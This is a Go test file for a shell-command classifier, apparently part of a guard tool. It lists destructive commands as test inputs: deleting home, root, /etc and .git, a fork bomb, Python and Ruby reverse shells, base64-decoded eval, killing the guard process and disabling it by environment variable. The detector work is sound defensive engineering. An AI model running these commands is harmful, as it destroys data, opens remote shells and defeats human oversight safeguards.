package classify

import (
	"strings"
	"testing"
)

// rulesOf names the shipped rules that a line matches.
func rulesOf(line string) string {
	return strings.Join(Shipped().ruleIDs(line, &Rule{}), " ")
}

func TestWhatIsFoundIsDeleted(t *testing.T) {
	for line, want := range map[string]string{
		`find /home -type f -exec rm -f {} \;`:                      "delete-home-or-root",
		`find /home -type f -print0 | xargs -0 rm -f`:               "delete-home-or-root",
		`find . -type f -exec rm {} +`:                              "delete-workspace",
		`find . -name '*.go' -delete`:                               "delete-workspace",
		`find . ! -name keep -exec rm -rf {} +`:                     "delete-workspace",
		`find . -name node_modules -prune -o -type f -exec rm {} +`: "delete-workspace",
		`git ls-files | xargs rm`:                                   "delete-workspace",
		`ls | xargs rm -rf`:                                         "delete-workspace",
		`python3 -c "from pathlib import Path; [p.unlink() for p in Path('/etc').rglob('*')]"`:  "delete-home-or-root",
		`python3 -c "import os; [os.remove(f) for f in os.listdir('.')]"`:                       "delete-workspace",
		`python3 -c "import os; [os.remove(f) for f in os.listdir('.') if f.endswith('.tmp')]"`: "",
		`kill $(pgrep -f restrain)`:                                    "restrain-kill",
		`Get-ChildItem C:\ -Recurse | Remove-Item -Force`:              "delete-home-or-root",
		`find . -name '*.pyc' -exec rm {} +`:                           "",
		`find . -name '*.tmp' -o -name '*.bak' | xargs rm -f`:          "",
		`ls -t | tail -n +6 | xargs rm -f`:                             "",
		`git ls-files -d | xargs rm -f`:                                "",
		`find /tmp -type f -exec rm -f {} \;`:                          "",
		`find . -type d -name node_modules -prune -exec rm -rf {} \;`:  "",
		`find . -name '*.ts' -not -path './dist/*' | xargs grep token`: "",
	} {
		got := rulesOf(line)
		if want == "" && (strings.Contains(got, "delete-workspace") || strings.Contains(got, "delete-home")) ||
			!strings.Contains(got, want) {
			t.Errorf("%s: got %q, want %q", line, got, want)
		}
	}
}

func TestGroupsThatWriteDoNotEmpty(t *testing.T) {
	for line, emptied := range map[string]bool{
		"> src/a.go":                     true,
		": > src/a.go":                   true,
		"cp x y; > src/a.go":             true,
		"{ cat a; echo; } > src/a.go":    false,
		"(cat a b) > src/a.go":           false,
		"if true; then ls; fi >src/a.go": false,
	} {
		if got := strings.Contains(rulesOf(line), "source-file-emptied"); got != emptied {
			t.Errorf("%s: emptied %v, want %v", line, got, emptied)
		}
	}
}

func TestWhatFindIsToldToDelete(t *testing.T) {
	for line, git := range map[string]bool{
		"find . -name .git -exec rm -rf {} +":                                                  true,
		"find . -name .git -type d -prune -exec rm -rf {} +":                                   true,
		"find . -name .git -type d | xargs rm -rf":                                             true,
		"find . -name .git -delete":                                                            true,
		"find . -name .git -prune -o -name '*.orig' -delete":                                   false,
		`find . \( -name .git -o -name node_modules \) -prune -o -name '*.orig' -exec rm {} +`: false,
		"find . -not -name .git -name '*.orig' -delete":                                        false,
		"find . -name '*.orig' -delete":                                                        false,
	} {
		if got := strings.Contains(rulesOf(line), "delete-git-directory"); got != git {
			t.Errorf("%s: deletes .git %v, want %v", line, got, git)
		}
	}
}

func TestCodeThatConnects(t *testing.T) {
	for line, want := range map[string]string{
		`python3 -c 'import socket,os;s=socket.socket();s.connect(("203.0.113.9",1));os.dup2(s.fileno(),0)'`: "reverse-shell",
		`ruby -rsocket -e 'f=TCPSocket.open("203.0.113.9",1);exec "/bin/sh -i <&3"'`:                         "reverse-shell",
		`python3 -c 'import socket; print(socket.gethostname())'`:                                            "",
		`python3 -c "exec(__import__('base64').b64decode(x))"`:                                               "decoded-code",
		`node -e "eval(Buffer.from(x,'base64').toString())"`:                                                 "decoded-code",
		`node -e "console.log(Buffer.from('eA==','base64').toString())"`:                                     "",
		`:(){ :|:& };:`:               "function-calls-itself",
		`f() { g | h; }; f`:           "",
		`/bin/r? -rf x`:               "computed-name",
		`RESTRAIN=off git status`:     "guard-variable",
		`NODE_ENV=test npm test`:      "",
		`eval "$(direnv hook bash)"`:  "",
		`del /s /q C:\*`:              "delete-home-or-root",
		`rmdir /s /q C:\Users\me\app`: "delete",
	} {
		got := rulesOf(line)
		bad := strings.Contains(got, "reverse-shell") || strings.Contains(got, "decoded-code") || strings.Contains(got, "fork-bomb")
		if want == "" && bad || !strings.Contains(got, want) {
			t.Errorf("%s: got %q, want %q", line, got, want)
		}
	}
}
